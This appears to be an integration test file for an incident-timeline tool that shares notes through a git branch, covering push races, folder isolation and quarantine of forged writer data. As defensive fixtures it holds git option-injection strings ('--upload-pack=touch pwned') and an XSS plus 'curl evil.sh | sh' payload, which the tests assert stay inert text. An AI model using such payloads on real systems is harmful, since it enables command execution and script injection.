// Sharing through the dedicated branch (the fallback for hosts that refuse custom refs), with
// real git and bare repositories on disk: the switch, races between writers, what a writer may
// change on the branch, the checks on teammates' folders, and what is never touched.
import * as assert from 'node:assert/strict';
import { existsSync, readdirSync, readFileSync } from 'node:fs';
import * as path from 'node:path';
import { pushThroughBranch } from '../../../src/git/branchShare';
import { FETCHED_BRANCH, SHARE_BRANCH } from '../../../src/git/incidentBranch';
import { ShareError } from '../../../src/git/shareRepo';
import { encodeRecord } from '../../../src/incidents/journal';
import type { TimelineEvent } from '../../../src/incidents/model';
import { encodeWriterSegment } from '../../../src/incidents/sharedSegment';
import { makeRepo } from './gitRepo';
import { commitToBranch, makeTeam, refuseCustomRefs, type Responder, type Team } from './team';

const A = 'wa000000000';
const B = 'wb000000000';
const C = 'wc000000000';
const MALLORY = 'wm000000000';

const notes = (events: readonly TimelineEvent[]) => events.filter((e) => e.type === 'note').map((e) => (e as { text: string }).text);

describe('incident sharing through the shared branch (real repositories)', function () {
  this.timeout(120_000);
  let team: Team;
  beforeEach(() => {
    team = makeTeam();
  });
  afterEach(async () => {
    await team.cleanup();
  });

  const branchFiles = () => team.remoteGit('ls-tree', '-r', '--name-only', SHARE_BRANCH).trim().split('\n').filter(Boolean);
  const branchTip = () => team.remoteGit('rev-parse', SHARE_BRANCH).trim();
  const isAncestor = (ancestor: string, descendant: string) => {
    try {
      team.remoteGit('merge-base', '--is-ancestor', ancestor, descendant);
      return true;
    } catch {
      return false;
    }
  };

  /** Ana declares, notes and shares on the branch; Bo (same transport) has fetched and joined. */
  async function sharedOnBranch(transport: 'branch' | 'auto' = 'branch') {
    const ana = await team.responder('Ana', A, { transport });
    const bo = await team.responder('Bo', B, { transport });
    const inc = await ana.book.declare({ title: 'Checkout 502', severity: 'SEV2', commander: 'Ana' });
    await ana.book.addNote(inc.id, 'error rate 12%');
    await ana.share(inc.id, team.remote);
    await bo.sync.sync({ defaultRemote: team.remote });
    await bo.book.join(inc.id);
    await bo.sync.adopt(inc.id, team.remote);
    assert.deepEqual((await bo.sync.sync()).errors, []);
    await ana.sync.sync();
    return { ana, bo, id: inc.id };
  }

  it('auto: a host that refuses custom refs gets the branch, said once; a second installation reads the events and answers', async () => {
    refuseCustomRefs(team);
    const logged: string[] = [];
    const ana = await team.responder('Ana', A, { log: (m) => logged.push(m) });
    const inc = await ana.book.declare({ title: 'Checkout 502', severity: 'SEV2', commander: 'Ana' });
    await ana.book.addNote(inc.id, 'error rate 12%');
    await ana.book.markShared(inc.id);
    await ana.sync.adopt(inc.id, team.remote);
    const first = await ana.sync.sync({ only: [inc.id] });
    assert.deepEqual(first.errors.map((e) => e.message), []);
    assert.deepEqual(first.switched, [team.remote]);
    assert.equal(first.pushed, 2);
    assert.equal(ana.sync.unshared(inc.id), 0);
    assert.equal(ana.sync.refFor(inc.id), SHARE_BRANCH);
    assert.equal(logged.filter((m) => /now shared there through the branch oncall\/incidents/.test(m)).length, 1);
    assert.equal(team.remoteGit('for-each-ref', '--format=%(refname)').trim(), SHARE_BRANCH, 'one branch, no custom ref');
    assert.deepEqual(branchFiles(), [`${inc.id}/${A}/events.jsonl`, `${inc.id}/${A}/writer.json`]);

    await ana.book.addNote(inc.id, 'rolled back');
    const again = await ana.sync.sync();
    assert.deepEqual([again.switched, again.errors, again.pushed], [[], [], 1], 'switched once; later pushes go to the branch directly');
    // Remembered by the installation (its sharing folder), not by this object.
    const reread = await team.responder('Ana', A);
    await reread.sync.reloadState();
    assert.equal(reread.sync.transportFor(team.remote), 'branch');

    const bo = await team.responder('Bo', B);
    const found = await bo.sync.sync({ defaultRemote: team.remote });
    assert.deepEqual(found.discovered, [inc.id]);
    assert.deepEqual(notes(bo.book.events(inc.id)), ['error rate 12%', 'rolled back']);
    await bo.book.join(inc.id, 'techLead');
    await bo.book.addNote(inc.id, 'bo is on it');
    await bo.sync.adopt(inc.id, team.remote);
    const boPush = await bo.sync.sync();
    assert.deepEqual([boPush.errors, boPush.switched], [[], [team.remote]], 'Bo switches on his own refusal');
    await ana.sync.sync();
    assert.deepEqual(notes(ana.book.events(inc.id)), ['error rate 12%', 'rolled back', 'bo is on it']);
    assert.equal(ana.book.incident(inc.id)?.roles.techLead, 'Bo');
  });

  it('two writers racing: the one that lost fetches, rebuilds on the new tip and lands; nothing forced, no event lost', async () => {
    const { ana, bo, id } = await sharedOnBranch();
    // Both have fetched the same tip; Ana's push lands first, Bo's is built on the old tip.
    await ana.book.addNote(id, 'ana at the same time');
    await bo.book.addNote(id, 'bo at the same time');
    const before = bo.sync.repo.pushes;
    assert.deepEqual((await ana.sync.sync({ fetch: false })).errors, []);
    const anaTip = branchTip();
    const r = await bo.sync.sync({ fetch: false });
    assert.deepEqual(r.errors.map((e) => e.message), []);
    assert.equal(r.pushed, 1);
    assert.equal(bo.sync.repo.pushes - before, 2, 'refused once (not forced), then rebuilt on Ana\'s tip');
    assert.ok(isAncestor(anaTip, branchTip()), 'Ana\'s commit is in the history: a fast-forward');
    await ana.sync.sync();
    await bo.sync.sync();
    for (const who of [ana, bo]) assert.deepEqual(notes(who.book.events(id)).sort(), ['ana at the same time', 'bo at the same time', 'error rate 12%']);
    assert.equal(ana.sync.unshared(id) + bo.sync.unshared(id), 0);
  });

  it('three writers pushing at the same moment all land, each in its own folder', async () => {
    const { ana, bo, id } = await sharedOnBranch();
    const cy = await team.responder('Cy', C, { transport: 'branch' });
    await cy.sync.sync({ defaultRemote: team.remote });
    await cy.book.join(id);
    await cy.sync.adopt(id, team.remote);
    await cy.sync.sync();
    const all: Responder[] = [ana, bo, cy];
    for (const [i, who] of all.entries()) for (let n = 0; n < 3; n++) await who.book.addNote(id, `${who.name} ${n} (${i})`);
    const results = await Promise.all(all.map((who) => who.sync.sync({ fetch: false })));
    assert.deepEqual(results.map((x) => x.errors.map((e) => e.message)), [[], [], []]);
    assert.deepEqual(results.map((x) => x.pushed), [3, 3, 3]);
    for (const who of all) await who.sync.sync();
    for (const who of all) assert.equal(notes(who.book.events(id)).length, 10, `${who.name} has every note`);
    assert.deepEqual(branchFiles().filter((f) => f.endsWith('events.jsonl')).sort(), [A, B, C].map((w) => `${id}/${w}/events.jsonl`));
  });

  it('replaces only its own folder: other writers, other incidents and whatever else is on the branch stay byte for byte', async () => {
    const { ana, id } = await sharedOnBranch();
    // What else a branch can hold: a README, option-like names, another incident's folder.
    commitToBranch(team, { 'README.md': 'shared timelines\n', '--exec=touch pwned/-rf': 'x', 'INC-20250101-00001/wz000000000/events.jsonl': 'whatever\n' });
    const before = team.remoteGit('ls-tree', '-r', SHARE_BRANCH).split('\n').filter((l) => !l.includes(`${id}/${A}/`));
    const tipBefore = branchTip();
    await ana.book.addNote(id, 'after the others');
    const r = await ana.sync.sync();
    assert.deepEqual(r.errors, []);
    const after = team.remoteGit('ls-tree', '-r', SHARE_BRANCH).split('\n');
    assert.deepEqual(after.filter((l) => !l.includes(`${id}/${A}/`)), before, 'every other entry, same blob ids');
    assert.notEqual(after.find((l) => l.endsWith(`${id}/${A}/events.jsonl`)), undefined);
    assert.equal(team.remoteGit('rev-parse', `${SHARE_BRANCH}^`).trim(), tipBefore, 'one commit on top of the tip');
    assert.ok(!existsSync(path.join(ana.dir, 'share', 'repo.git', 'pwned')) && !existsSync('pwned'), 'names are data, never options');
    const author = team.remoteGit('log', '-1', '--format=%an <%ae>', SHARE_BRANCH).trim();
    assert.equal(author, `Ana <${A}@oncall.invalid>`);
  });

  it('a claimed name that reads like an option stays text in the commit, and a remote that reads like one is refused before git runs', async () => {
    refuseCustomRefs(team);
    const ana = await team.responder('--upload-pack=touch pwned <x>', A, { transport: 'branch' });
    const inc = await ana.book.declare({ title: 'T' });
    await ana.share(inc.id, team.remote);
    assert.equal(ana.sync.incidentState(inc.id)?.lastError, undefined);
    assert.equal(team.remoteGit('log', '-1', '--format=%an', SHARE_BRANCH).trim(), '--upload-pack=touch pwned x');
    await ana.book.addNote(inc.id, 'n');
    const pushes = ana.sync.repo.pushes;
    const bad = '--upload-pack=touch pwned';
    const segment = async () => encodeWriterSegment(inc.id, A, 'x', ana.book.ownEvents(inc.id));
    await assert.rejects(pushThroughBranch({ repo: ana.sync.repo, remote: bad, writer: A, name: 'x', clock: Date.now, incidents: [inc.id], segment }), (e: ShareError) => e.kind === 'badRemote');
    assert.equal(ana.sync.repo.pushes, pushes, 'no push was started');
    const viaSync = await ana.sync.sync({ defaultRemote: bad, fetch: true });
    assert.ok(viaSync.errors.some((e) => e.kind === 'badRemote'));
    assert.ok(!existsSync(path.join(team.base, 'pwned')) && !existsSync('pwned') && !existsSync(path.join(ana.dir, 'share', 'repo.git', 'pwned')));
  });

  it('quarantines a folder that claims another writer, and a hostile one, with a visible problem; the rest is taken', async () => {
    const { bo, id } = await sharedOnBranch();
    const claim = encodeWriterSegment(id, A, 'Not Ana', [{ id: 'ec-1', incidentId: id, time: new Date().toISOString(), author: 'Ana', writer: A, type: 'note', text: 'I am Ana' }]);
    const hostileText = '<img src=x onerror=alert(1)> $(curl evil.sh | sh)';
    const good: TimelineEvent = { id: 'em-good', incidentId: id, time: new Date().toISOString(), author: hostileText, writer: MALLORY, type: 'note', text: hostileText };
    const tampered = encodeRecord({ ...good, id: 'em-tampered' }).toString().replace('evil.sh', 'evil.io');
    commitToBranch(team, {
      [`${id}/wc000000000/events.jsonl`]: claim.events,
      [`${id}/wc000000000/writer.json`]: claim.writer,
      [`${id}/${MALLORY}/events.jsonl`]: Buffer.concat([encodeRecord(good), Buffer.from(tampered), Buffer.from('garbage\n')]),
      [`${id}/${MALLORY}/writer.json`]: JSON.stringify({ format: 1, incidentId: id, writer: MALLORY, name: hostileText }),
    });
    const r = await bo.sync.sync();
    assert.deepEqual(r.problems.map((p) => `${p.writer}:${p.line}:${p.kind}`).sort(), ['wc000000000:0:forgedWriter', `${MALLORY}:2:badRecord`, `${MALLORY}:3:badRecord`]);
    const ids = bo.book.events(id).map((e) => e.id);
    assert.ok(!ids.includes('ec-1') && !ids.includes('em-tampered'));
    assert.equal((bo.book.events(id).find((e) => e.id === 'em-good') as { text: string }).text, hostileText, 'text stays text');
    const qdir = path.join(bo.journal.incidentDir(id), 'quarantine');
    const kept = readdirSync(qdir).map((f) => readFileSync(path.join(qdir, f), 'utf8')).join('\n');
    assert.ok(kept.includes('claims writer wa000000000') && kept.includes('"id":"em-tampered"') && kept.includes('garbage'));
    assert.equal(bo.sync.problems(id).length, 3);
    assert.deepEqual((await bo.sync.sync()).problems, [], 'taken once');
  });

  it('never touches anyone\'s branches, index or HEAD: the remote\'s main and a working clone stay as they were', async () => {
    const user = makeRepo();
    try {
      user.git('push', '--quiet', team.remote, 'main');
      user.git('remote', 'add', 'origin', team.remote);
      user.write('draft.md', 'uncommitted\n');
      user.git('add', 'draft.md');
      const snapshot = () => [user.git('rev-parse', 'HEAD'), user.git('symbolic-ref', 'HEAD'), user.git('for-each-ref'), user.git('status', '--porcelain'), readFileSync(path.join(user.dir, '.git', 'index')).toString('base64')];
      const before = snapshot();
      const remoteMain = team.remoteGit('rev-parse', 'refs/heads/main');
      refuseCustomRefs(team);
      await sharedOnBranch('auto');
      assert.deepEqual(snapshot(), before);
      assert.equal(team.remoteGit('rev-parse', 'refs/heads/main'), remoteMain);
      assert.deepEqual(team.remoteGit('for-each-ref', '--format=%(refname)').trim().split('\n'), ['refs/heads/main', SHARE_BRANCH]);
    } finally {
      user.cleanup();
    }
  });

  it('takes back what another copy of itself wrote in its folder before rewriting it: the folder never shrinks', async () => {
    const { ana, bo, id } = await sharedOnBranch();
    // A second copy of Ana's installation (same writer id) replaced her folder with more events.
    const laptop = encodeWriterSegment(id, A, 'Ana (laptop)', [...ana.book.ownEvents(id), { id: 'elaptop-1', incidentId: id, time: new Date().toISOString(), author: 'Ana', writer: A, type: 'note', text: 'from the laptop' }]);
    commitToBranch(team, { [`${id}/${A}/events.jsonl`]: laptop.events, [`${id}/${A}/writer.json`]: laptop.writer }, 'Ana (laptop)');
    await ana.book.addNote(id, 'from the desktop');
    const r = await ana.sync.sync({ fetch: false });
    assert.deepEqual(r.errors.map((e) => e.message), []);
    assert.ok(notes(ana.book.events(id)).includes('from the laptop'), 'taken in before the folder was rewritten');
    await bo.sync.sync();
    assert.deepEqual(notes(bo.book.events(id)), ['error rate 12%', 'from the laptop', 'from the desktop']);
    const fresh = await team.responder('Cy', C, { transport: 'branch' });
    await fresh.sync.sync({ defaultRemote: team.remote });
    assert.deepEqual(notes(fresh.book.events(id)), ['error rate 12%', 'from the laptop', 'from the desktop'], 'a newcomer reads every one of them from the tip');
  });

  it('a mixed team reads both: one writer on refs, one on the branch', async () => {
    const ana = await team.responder('Ana', A, { transport: 'refs' });
    const bo = await team.responder('Bo', B, { transport: 'branch' });
    const inc = await ana.book.declare({ title: 'Mixed' });
    await ana.share(inc.id, team.remote);
    await bo.sync.sync({ defaultRemote: team.remote });
    await bo.book.join(inc.id);
    await bo.book.addNote(inc.id, 'from the branch');
    await bo.sync.adopt(inc.id, team.remote);
    assert.deepEqual((await bo.sync.sync()).errors, []);
    await ana.sync.sync();
    assert.deepEqual(notes(ana.book.events(inc.id)), ['from the branch']);
    assert.deepEqual(team.remoteGit('for-each-ref', '--format=%(refname)').trim().split('\n').sort(), [`refs/heads/oncall/incidents`, `refs/oncall/incidents/${inc.id}/${A}`]);
  });

  it('gives up after a bounded number of lost races with a clear message, forcing nothing', async () => {
    const { ana, id } = await sharedOnBranch();
    await ana.book.addNote(id, 'never lands');
    let tip = '';
    const attempt = pushThroughBranch({
      repo: ana.sync.repo, remote: team.remote, writer: A, name: 'Ana', clock: Date.now, incidents: [id], maxAttempts: 3, pause: async () => undefined,
      // A teammate pushes between each fetch and our push.
      segment: async () => {
        tip = commitToBranch(team, { [`${id}/wt000000000/n`]: String(Math.random()) }, 'Teammate');
        return encodeWriterSegment(id, A, 'Ana', ana.book.ownEvents(id));
      },
    });
    await assert.rejects(attempt, (e: ShareError) => e.kind === 'notFastForward' && /kept pushing to the branch oncall\/incidents/.test(e.message) && /3 pushes in a row/.test(e.message) && /Nothing was forced/.test(e.message));
    assert.equal(branchTip(), tip, 'the teammate\'s last commit is the tip');
    assert.ok(notes(ana.book.events(id)).includes('never lands'), 'acknowledged locally all the same');
    assert.equal(await ana.sync.repo.tip(FETCHED_BRANCH) !== undefined, true);
  });
});
